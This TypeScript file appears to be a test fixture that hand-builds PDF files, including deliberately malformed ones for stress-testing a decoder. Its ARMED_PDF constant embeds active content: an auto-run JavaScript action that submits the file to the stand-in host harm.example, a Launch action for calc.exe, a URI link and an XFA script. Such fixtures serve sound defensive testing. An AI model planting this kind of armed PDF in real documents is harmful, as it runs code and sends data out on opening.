/** What a PDF file is asked to do besides showing its pages. */
interface Made {
  /** Lines of text, one for each page. */
  pages: readonly string[]
  /** Written into the catalogue, into each page, and as further objects from 100. */
  catalogue?: string
  page?: string
  objects?: readonly string[]
}

/** A PDF file as it stands in the standard (ISO 32000-1 §7.5), with letters that it does not bring itself. */
export function pdfOf({ pages, catalogue = '', page = '', objects = [] }: Made): Buffer {
  const idOf = (index: number) => 10 + index * 2
  const numbered: (readonly [number, string])[] = [
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`],
    [2, `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, index) => `${idOf(index)} 0 R`).join(' ')}] >>`],
    [3, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
    ...pages.flatMap((text, index) => {
      const drawn = `BT /F1 24 Tf 40 240 Td (${text}) Tj ET 0 0 1 rg 40 40 120 120 re f`
      return [
        [idOf(index), `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents ${idOf(index) + 1} 0 R /Resources << /Font << /F1 3 0 R >> >> ${page} >>`],
        [idOf(index) + 1, `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`],
      ] as const
    }),
    ...objects.map((object, index) => [100 + index, object] as const),
  ]
  let text = '%PDF-1.7\n'
  const places = new Map<number, number>()
  for (const [id, object] of numbered) {
    places.set(id, text.length)
    text += `${id} 0 obj\n${object}\nendobj\n`
  }
  const entries = [...places].map(([id, place]) => `${id} 1\n${String(place).padStart(10, '0')} 00000 n \n`).join('')
  return Buffer.from(`${text}xref\n0 1\n0000000000 65535 f \n${entries}trailer\n<< /Size 200 /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`, 'latin1')
}

/** Runs script, starts a program, goes to an address and sends itself away: on opening, on each page, and when it is touched. */
export const ARMED_PDF = pdfOf({
  pages: ['Gewapend'],
  catalogue: '/OpenAction 100 0 R /AA << /WC 100 0 R >> /Names << /JavaScript << /Names [(a) 100 0 R] >> >> /AcroForm << /XFA [(x) 103 0 R] /Fields [] >>',
  page: '/AA << /O 101 0 R >> /Annots [102 0 R]',
  objects: [
    '<< /S /JavaScript /JS (app.alert\\(1\\); globalThis.harmed = true; this.submitForm\\("https://harm.example/"\\)) >>',
    '<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A << /S /URI /URI (https://harm.example/) >> >>',
    '<< /Length 8 >>\nstream\n<script>\nendstream',
  ],
})

/** What a decoder of ISO 32000 may break its teeth on. */
export const BROKEN_PDFS: readonly (readonly [string, Buffer])[] = [
  ['only its first line', Buffer.from('%PDF-1.7')],
  ['cut in half', pdfOf({ pages: ['half'] }).subarray(0, 160)],
  ['pages that are each other\'s parent', Buffer.from(pdfOf({ pages: ['kring'] }).toString('latin1').replace('/Kids [10 0 R]', '/Kids [ 2 0 R]'), 'latin1')],
  ['a page of nine million by nine million', Buffer.from(pdfOf({ pages: ['groot'] }).toString('latin1').replace('[0 0 400 300]', '[0 0 9000000 9000000]'), 'latin1')],
]
